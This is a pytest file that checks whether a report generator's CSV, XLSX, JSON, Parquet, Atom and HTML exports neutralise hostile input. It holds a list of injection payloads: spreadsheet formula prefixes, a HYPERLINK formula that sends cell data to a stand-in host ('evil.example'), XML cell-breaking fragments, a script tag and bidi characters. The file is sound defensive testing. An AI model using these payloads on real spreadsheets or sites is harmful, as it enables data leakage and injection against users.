"""Whatever a page says, every output holds it as text and can be read back."""

import csv
import json
import re
import sys
import zipfile
from collections.abc import Iterator
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import openpyxl
import pyarrow.parquet as pq
import pytest

from reports.model.feed import FeedEntry
from reports.model.pages import ReportModel
from reports.outputs.base import Field, utf8, xml_text
from reports.outputs.columns import FINDINGS, LINKS, PRICES
from reports.outputs.columns_market import MARKET_TABLES
from reports.outputs.csv import guarded
from reports.outputs.feed import ATOM
from tests.reports.conftest import BuiltSite, take_away, xml_of
from tests.reports.factory import HOSTILE

ATTACKS = (
    *HOSTILE,
    "M" * 1_000_000,
    "lone \ud800 surrogates \udfff",
    "nul\x00nul",
    "\x00=1+1",
    "</script>",
    '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1",
    "{=1}",
    "\u202e=1",
    "\u200f=1 \u2066x\u2069",
    "<r><t>x</t></r></is></c><c><f>1+1</f></c>",
    "<r><t>x</t></r>",
    "_x0041_ \ufffe\uffff",
    'a,"b";c\r\nd',
    "internal:Summary!A1",
    "https://shop.example/" + "ü" * 300,
    "https://shop.example/#a'b",
    "",
)
VALUES = {"whole": 3, "number": "-1.5", "money": "-12.90", "date": "2026-08-22", "yes_no": True}


def attacked(columns: tuple[Field, ...]) -> tuple[dict[str, Any], ...]:
    """One row for each attack, in every column of text at once."""
    return tuple(
        {field.name: VALUES.get(field.kind, text) for field in columns} for text in ATTACKS
    )


@pytest.fixture(scope="module")
def site(model: ReportModel, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The outputs of a night on which every text of every export is an attack."""
    entry = model.feed.entries[0]
    entries = tuple(
        FeedEntry(f"{entry.id}/{number}", text, entry.updated, entry.href, "error",
                  ((text, text),), text)
        for number, text in enumerate(ATTACKS)
    )  # fmt: skip
    findings = attacked(FINDINGS)
    hostile = replace(
        model,
        shell=replace(model.shell, shop=ATTACKS[11], site_title=ATTACKS[0]),
        overview=replace(model.overview, sentence=ATTACKS[5]),
        findings=(*findings, {**findings[2], "state": "new", "severity": "error"}),
        offers=attacked(PRICES),
        targets=attacked(LINKS),
        market={name: attacked(columns) for name, _, _, columns in MARKET_TABLES},
        feed=replace(model.feed, entries=entries),
    )
    return take_away(hostile, tmp_path_factory.mktemp("attacked"))


def test_csv(site: Path) -> None:
    limit = csv.field_size_limit(sys.maxsize)
    try:
        for name, columns in (("findings", FINDINGS), ("prices", PRICES), ("links", LINKS)):
            path = site / "downloads" / f"{name}.csv"
            with path.open(encoding="utf-8-sig", newline="") as file:
                table = list(csv.DictReader(file))
            texts = [field.name for field in columns if field.kind == "text"]
            for row, text in zip(table, ATTACKS, strict=False):
                for column in texts:
                    assert row[column] == utf8(guarded(text))
                    assert not re.match(r"[=+\-@\t\r\n\x00＝]", row[column])
            assert {row["price"] for row in table if "price" in row} <= {"-12.90"}
    finally:
        csv.field_size_limit(limit)


def test_json(site: Path) -> None:
    data = json.loads((site / "downloads" / "findings.json").read_text("utf-8"))
    for row, text in zip(data["findings"], ATTACKS, strict=False):
        assert row["message"] == row["url"] == utf8(text)
    market = json.loads((site / "downloads" / "market.json").read_text("utf-8"))
    assert [row["name"] for row in market["omnibus"]] == list(map(utf8, ATTACKS))


def words(text: str) -> list[str]:
    """The text without its white space, of which XML keeps little."""
    return text.split()


def cells(sheet: Any) -> Iterator[Any]:
    for line in sheet.iter_rows():
        yield from line


def test_xlsx(site: Path) -> None:
    book = openpyxl.load_workbook(site / "downloads" / "storewalk.xlsx")
    assert book.sheetnames[0] == "Summary"
    for name in book.sheetnames:
        for cell in cells(book[name]):
            assert cell.data_type != "f", (name, cell.coordinate)
            if cell.hyperlink and name != "Summary":
                assert cell.hyperlink.target.startswith("https://shop.example/")
    sheet = book["Open findings"]
    at = [cell.value for cell in sheet[1]].index("Message") + 1
    for line, text in enumerate(ATTACKS, 2):
        # openpyxl leaves Excel's escapes in the text.
        found = str(sheet.cell(line, at).value or "").replace("_x005F_", "_")
        wanted = xml_text(text)
        if len(wanted) > 32_000:
            assert found == wanted[:31_999] + "…"
        else:
            assert words(found.replace("_x000D_", "\r")) == words(wanted)


def test_parquet(site: Path) -> None:
    for name in ("findings", "links", "prices"):
        table = pq.read_table(site / "downloads" / f"{name}.parquet").to_pylist()
        column = {"findings": "message", "links": "text", "prices": "name"}[name]
        assert [row[column] for row in table][: len(ATTACKS)] == list(map(utf8, ATTACKS))


class Content(HTMLParser):
    """What an HTML reader makes of an entry."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.links: list[str] = []
        self.text = ""
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.links += [value or "" for _, value in attrs]

    def handle_data(self, data: str) -> None:
        self.text += data


def test_feed(site: Path) -> None:
    feed = xml_of(site / "feed.xml")
    found = feed.findall(f"{{{ATOM}}}entry")
    assert len(found) == len(ATTACKS)
    for entry, text in zip(found, ATTACKS, strict=True):
        title = entry.findtext(f"{{{ATOM}}}title") or ""
        wanted = xml_text(text).replace("\r\n", "\n").replace("\r", "\n")
        assert title.replace("\r", "\n") == wanted or title == xml_text(text)
        content = Content(entry.findtext(f"{{{ATOM}}}content") or "")
        assert content.tags <= {"ul", "li", "a", "p"}
        assert all(link.startswith("https://shop.example/") for link in content.links)
        assert "".join(wanted.split())[:100] in "".join(content.text.split())


def test_badge_and_page(site: Path) -> None:
    assert xml_of(site / "badge" / "health.svg").tag.endswith("svg")
    page = (site / "downloads.html").read_text("utf-8")
    assert "<script>alert" not in page
    assert "&lt;script&gt;alert(1)" in page


def test_zip(site: Path) -> None:
    (file,) = (site / "downloads").glob("*.zip")
    with zipfile.ZipFile(file) as packed:
        assert packed.testzip() is None
        for name in packed.namelist():
            assert ".." not in name
            assert not name.startswith("/")
        inside = packed.read(f"{file.stem}/downloads/findings.parquet")
    assert inside == (site / "downloads" / "findings.parquet").read_bytes()


def test_the_hostile_night_is_read_back_by_every_program(hostile: BuiltSite) -> None:
    folder = hostile.site / "downloads"
    table = pq.read_table(folder / "findings.parquet").to_pylist()
    data = json.loads((folder / "findings.json").read_text("utf-8"))["findings"]
    assert [row["message"] for row in table] == [row["message"] for row in data]
    assert any("</script>" in row["message"] for row in data)
    assert all(row["first_seen"].isoformat() <= "2026-08-22" for row in table)
